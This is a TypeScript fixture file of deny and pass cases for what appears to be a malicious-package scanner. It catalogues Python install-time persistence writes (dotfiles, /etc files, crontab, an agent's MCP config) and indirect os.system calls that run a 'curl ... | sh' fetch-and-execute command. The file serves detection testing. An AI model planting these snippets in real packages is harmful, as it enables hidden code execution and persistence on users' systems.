/** Places where things start by themselves, and names of sinks that are found in another way. All inert. */
import type { Shape } from './malicious.js';

const harms = '"curl http://198.51.100.7/a | sh"';

function one(
  tier: Shape['tier'],
  name: string,
  code: string,
  more: Readonly<Record<string, string>> = {},
): Shape {
  return { name, tier, files: { 'demo/__init__.py': `${code}\n`, ...more } };
}

function written(place: string): string {
  return `import os\nwith open(os.path.expanduser("${place}"), "a") as f:\n    f.write("x")`;
}

const places =
  '~/.xprofile ~/.vimrc ~/.tmux.conf ~/.Rprofile ~/.julia/config/startup.jl ~/.pdbrc ~/.gdbinit ~/.config/fish/conf.d/x.fish ~/.ipython/profile_default/ipython_config.py ~/.local/share/jupyter/kernels/python3/kernel.json /etc/passwd /etc/pam.d/sshd /etc/profile.d/x.sh /etc/rc.local /etc/environment /etc/udev/rules.d/x.rules /etc/update-motd.d/99-x /etc/systemd/system/x.timer ~/.aws/config'.split(
    ' ',
  );

export const leftBehind: readonly Shape[] = [
  ...places.map((place) => one('deny', place, written(place))),
  one('pass', 'a file of its own', written('~/.demo/settings.ini')),
  one('pass', 'settings that are read', 'import os\ndef known():\n    return open("/etc/passwd").read()'),
  one(
    'deny',
    'a table of times',
    'import subprocess\nopen("/tmp/c", "w").write("x")\nsubprocess.run(["crontab", "/tmp/c"])',
  ),
  one(
    'pass',
    'a table of times that is shown',
    'import subprocess\ndef shown():\n    return subprocess.run(["crontab", "-l"])',
  ),
  one(
    'deny',
    'tools of an agent',
    'import json, pathlib\np = pathlib.Path.home() / "Library/Application Support/Claude/claude_desktop_config.json"\nd = json.loads(p.read_text())\nd["mcpServers"] = {"x": {"command": "/tmp/x"}}\np.write_text(json.dumps(d))',
  ),
  one('deny', 'by the names of a function', `import os\nos.walk.__globals__["system"](${harms})`),
  one(
    'deny',
    'by a resolver',
    `from django.utils.module_loading import import_string\nimport_string("os.system")(${harms})`,
  ),
  one(
    'deny',
    'by another resolver',
    `from xmlrpc.server import resolve_dotted_attribute\nimport os\nresolve_dotted_attribute(os, "system")(${harms})`,
  ),
  one('deny', 'by a module of another module', `import ctypes.util\nctypes.util.os.system(${harms})`),
  one(
    'deny',
    'by a profiler that calls',
    `import cProfile, os\ncProfile.Profile().runcall(os.system, ${harms})`,
  ),
  one(
    'deny',
    'by a clock that calls',
    `import os, timeit\ntimeit.timeit(lambda: os.system(${harms}), number=1)`,
  ),
  one('deny', 'by a mail program', `import imaplib\nimaplib.IMAP4_stream(${harms})`),
  one(
    'pass',
    'a resolver of another name',
    'from django.utils.module_loading import import_string\nBACKEND = import_string("demo.backends.Local")',
  ),
  one(
    'deny',
    'text of the package that is run',
    'import os\nexec(open(os.path.join(os.path.dirname(__file__), "notes.txt")).read())',
    { 'demo/notes.txt': `import os\nos.system(${harms})\n# notes of this version\n` },
  ),
  one(
    'deny',
    'data that an interpreter is given',
    'import os, subprocess, sys\nsubprocess.Popen([sys.executable, os.path.join(os.path.dirname(__file__), "helper.dat")])',
    { 'demo/helper.dat': `import os\nos.system(${harms})\n# notes of this version\n` },
  ),
  one('pass', 'text that shows a command', 'NOTES = "notes.txt"', {
    'demo/notes.txt': `import os\nos.system(${harms})\n# notes of this version\n`,
  }),
];
